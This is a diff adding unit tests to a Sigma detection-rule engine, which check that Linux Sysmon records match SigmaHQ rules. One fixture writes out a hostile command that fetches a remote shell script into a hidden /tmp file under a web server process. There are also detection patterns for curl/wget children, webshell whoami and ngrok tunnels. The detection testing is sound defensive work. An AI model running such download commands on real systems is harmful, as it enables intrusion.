@@ -485,3 +485,86 @@ Test(sigma_logsources, sigmahq_rules_of_these_logsources_load, .init = setup, .f
                              "\"endpoint\":\"efsrpc\",\"operation\":\"EfsRpcOpenFileRaw\"}"),
                      "Potential PetitPotam Attack Via EFS RPC Calls");
 }
+
+/* A Sysmon for Linux record as rsyslog passes it on (event_xml.c reads the XML) */
+static const char *lsysmon(const char *id, const char *data)
+{
+    static char rec[8192];
+    snprintf(
+        rec, sizeof rec,
+        "<134>Mar  2 08:15:01 app-07 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" "
+        "Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/><EventID>%s</EventID><Version>5"
+        "</Version><Level>4</Level><TimeCreated SystemTime=\"2026-03-02T08:15:01.123456000Z\"/>"
+        "<EventRecordID>4411</EventRecordID><Channel>Linux-Sysmon/Operational</Channel>"
+        "<Computer>app-07</Computer></System><EventData>%s</EventData></Event>",
+        id, data);
+    return rec;
+}
+
+/* Linux process_creation is Sysmon for Linux event 1 (the taxonomy): the
+ * XML it writes to syslog and the same event as evtx_dump JSON both match;
+ * Windows Sysmon's event 1 and Linux Sysmon's event 3 do not. The rule is
+ * ingress tool transfer by a web server's child (T1105). */
+Test(sigma_logsources, linux_process_creation_is_sysmon_for_linux, .init = setup, .fini = teardown)
+{
+    put("dl.yml", RULE("00000000-0000-0000-0000-00000000a0f1", "web server child downloads",
+                       "  product: linux\n  category: process_creation\n",
+                       "  parent:\n    ParentImage|endswith: ['/apache2', '/nginx', '/httpd']\n"
+                       "  tool:\n    Image|endswith: ['/curl', '/wget']\n"
+                       "  condition: parent and tool\n"));
+    start();
+    const char *data = "<Data Name=\"RuleName\">-</Data><Data Name=\"ProcessId\">20711</Data>"
+                       "<Data Name=\"Image\">/usr/bin/curl</Data><Data Name=\"CommandLine\">"
+                       "curl -s http://198.51.100.7/x.sh -o /tmp/.x</Data><Data "
+                       "Name=\"User\">www-data</Data><Data Name=\"ParentImage\">/usr/sbin/apache2"
+                       "</Data>";
+    cr_assert_str_eq(matches(lsysmon("1", data)), "web server child downloads");
+    /* evtx_dump's JSON of the same event */
+    cr_assert_str_eq(matches("{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":"
+                             "\"Linux-Sysmon\"}},\"EventID\":1,\"Channel\":\"Linux-Sysmon/"
+                             "Operational\",\"Computer\":\"app-07\"},\"EventData\":{\"Image\":"
+                             "\"/usr/bin/wget\",\"ParentImage\":\"/usr/sbin/nginx\"}}}"),
+                     "web server child downloads");
+    /* the same event from Windows Sysmon's channel, and Linux Sysmon's network event */
+    cr_assert_str_eq(matches("{\"Event\":{\"System\":{\"EventID\":1,\"Channel\":\"Microsoft-"
+                             "Windows-Sysmon/Operational\"},\"EventData\":{\"Image\":"
+                             "\"/usr/bin/wget\",\"ParentImage\":\"/usr/sbin/nginx\"}}}"),
+                     "");
+    cr_assert_str_eq(matches(lsysmon("3", data)), "");
+    /* a parent that is not a web server */
+    cr_assert_str_eq(matches(lsysmon("1", "<Data Name=\"Image\">/usr/bin/curl</Data>"
+                                          "<Data Name=\"ParentImage\">/usr/bin/bash</Data>")),
+                     "");
+}
+
+/* SigmaHQ's Linux process_creation, file_event and network_connection rules
+ * all load, and real ones fire on Sysmon for Linux's records. */
+Test(sigma_logsources, sigmahq_linux_sysmon_rules_load, .init = setup, .fini = teardown)
+{
+    char pc[1024], fe[1024], nc[1024];
+    const char *root = cr_test_shared_path("sigmahq-rules/rules/linux/process_creation");
+    cr_test_need_shared(root, "../shared/data/sigmahq-rules absent");
+    snprintf(pc, sizeof pc, "%s", root);
+    snprintf(fe, sizeof fe, "%s", cr_test_shared_path("sigmahq-rules/rules/linux/file_event"));
+    snprintf(nc, sizeof nc, "%s",
+             cr_test_shared_path("sigmahq-rules/rules/linux/network_connection"));
+    const char *extra[] = {pc, fe, nc};
+    start_with(extra, 3);
+    cr_assert_eq(rs->sigma.skipped, 0, "%s", rs->sigma.skips ? rs->sigma.skips : "");
+    cr_assert_eq(rs->sigma.loaded, 122 + 8 + 5, "%d", rs->sigma.loaded);
+    cr_assert_str_eq(matches(lsysmon("1", "<Data Name=\"Image\">/usr/bin/whoami</Data><Data "
+                                          "Name=\"CommandLine\">whoami</Data><Data "
+                                          "Name=\"ParentImage\">/usr/sbin/apache2</Data>")),
+                     "Linux Webshell Indicators");
+    cr_assert_str_eq(
+        matches(lsysmon(
+            "3", "<Data Name=\"Image\">/usr/local/bin/ngrok</Data><Data Name=\"Protocol\">tcp"
+                 "</Data><Data Name=\"DestinationIp\">3.134.39.220</Data><Data "
+                 "Name=\"DestinationHostname\">tunnel.us.ngrok.com</Data><Data "
+                 "Name=\"DestinationPort\">443</Data>")),
+        "Communication To Ngrok Tunneling Service - Linux");
+    /* whoami from a login shell is not a webshell */
+    cr_assert_str_eq(matches(lsysmon("1", "<Data Name=\"Image\">/usr/bin/whoami</Data><Data "
+                                          "Name=\"ParentImage\">/usr/bin/bash</Data>")),
+                     "");
+}
